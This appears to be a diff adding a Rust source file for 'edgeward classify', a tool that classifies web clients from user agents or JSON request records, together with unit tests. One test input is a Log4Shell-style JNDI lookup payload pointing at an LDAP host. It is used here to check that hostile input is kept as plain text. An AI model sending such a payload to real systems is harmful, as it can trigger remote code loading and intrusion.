@@ -1,0 +1,113 @@
+//! `edgeward classify`: what each client is.
+
+use std::borrow::Cow;
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+
+use clap::Args;
+use edgeward::Request;
+use edgeward::agent;
+use edgeward::request::Text;
+use serde::Deserialize;
+use serde::de::IgnoredAny;
+
+use crate::Done;
+use crate::stream::{Answered, each_line};
+
+/// Tell what each client is from what it sends
+///
+/// Every line of the input is a bare user agent, an object `{"ua":…,"headers":{…}}`, or a whole request; every
+/// line gets one line of answer, whatever bytes it holds. A blank line is a client that sent no user agent.
+#[derive(Args)]
+#[command(after_help = "Examples:\n  \
+    edgeward classify agents.txt\n  \
+    echo 'curl/8.5.0' | edgeward classify\n  \
+    echo '{\"ua\":\"Mozilla/5.0 …\",\"headers\":{\"sec-ch-ua-mobile\":\"?1\"}}' | edgeward classify")]
+pub struct Arguments {
+    /// Lines to classify; standard input if left out
+    file: Option<PathBuf>,
+}
+
+/// A client as people note it down: its user agent, and the other headers if they are known.
+#[derive(Default, Deserialize)]
+#[serde(default, bound(deserialize = "'de: 'a"))]
+struct Client<'a> {
+    ua: Option<Text<'a>>,
+    headers: BTreeMap<Text<'a>, Text<'a>>,
+    /// Only a whole request has it.
+    http: Option<IgnoredAny>,
+}
+
+/// Runs the command.
+pub fn run(arguments: &Arguments) -> Done {
+    each_line(arguments.file.as_deref(), |line, output| {
+        // A user agent is bytes: what is no UTF-8 is replaced, as browsers and log viewers do.
+        let line = String::from_utf8_lossy(line);
+        let (request, answered) = match read(&line) {
+            Ok(request) => (request, Answered::Yes),
+            Err(why) => (of_agent(Text(Cow::Borrowed(&line)), BTreeMap::new()), Answered::No(why)),
+        };
+        output.line(&agent::classify(&request))?;
+        Ok(answered)
+    })
+}
+
+/// A line that is not the JSON of a client or a request is the user agent itself: attackers send braces too.
+fn read(line: &str) -> Result<Request<'_>, String> {
+    let client = if line.trim_start().starts_with('{') { serde_json::from_str(line).ok() } else { None };
+    match client {
+        Some(Client { http: Some(_), .. }) => {
+            serde_json::from_str(line).map_err(|why| format!("is no request: {why}"))
+        }
+        Some(Client { ua, headers, .. }) if ua.is_some() || !headers.is_empty() => {
+            Ok(of_agent(ua.unwrap_or_default(), headers))
+        }
+        _ => Ok(of_agent(Text(Cow::Borrowed(line)), BTreeMap::new())),
+    }
+}
+
+fn of_agent<'a>(agent: Text<'a>, headers: BTreeMap<Text<'a>, Text<'a>>) -> Request<'a> {
+    let agent = (!agent.trim().is_empty()).then(|| (Text::from("user-agent"), agent));
+    let mut request = Request::default();
+    request.http.headers = Some(agent.into_iter().chain(headers).collect());
+    request
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn header(line: &str, name: &str) -> Option<String> {
+        read(line).unwrap().http.header(name).map(str::to_owned)
+    }
+
+    #[test]
+    fn the_three_shapes_of_a_line() {
+        assert_eq!(header("curl/8.5.0", "user-agent").as_deref(), Some("curl/8.5.0"));
+        let noted = r#"{"ua":"x/1","headers":{"Sec-CH-UA-Mobile":"?1"},"class":"browser"}"#;
+        assert_eq!(header(noted, "user-agent").as_deref(), Some("x/1"));
+        assert_eq!(header(noted, "sec-ch-ua-mobile").as_deref(), Some("?1"));
+        let request = r#"{"http":{"headers":[["user-agent","y/2"]]}}"#;
+        assert_eq!(header(request, "user-agent").as_deref(), Some("y/2"));
+        assert_eq!(read(r#"{"http":{"path":"/"}}"#).unwrap().http.user_agent(), None, "unknown, not absent");
+    }
+
+    #[test]
+    fn a_user_agent_with_braces_is_a_user_agent() {
+        for agent in ["{", "{}", "{${jndi:ldap://192.0.2.1/a}}", r#"{"ua":"#, r#"{"other":1}"#] {
+            assert_eq!(header(agent, "user-agent").as_deref(), Some(agent));
+        }
+    }
+
+    #[test]
+    fn a_blank_line_is_no_user_agent() {
+        for line in ["", "  ", r#"{"ua":""}"#] {
+            assert_eq!(read(line).unwrap().http.user_agent(), Some(None), "{line:?}");
+        }
+    }
+
+    #[test]
+    fn a_broken_request_is_told_from_a_user_agent() {
+        assert!(read(r#"{"http":{},"client":{"ip":"x"}}"#).unwrap_err().contains("`x`"));
+    }
+}
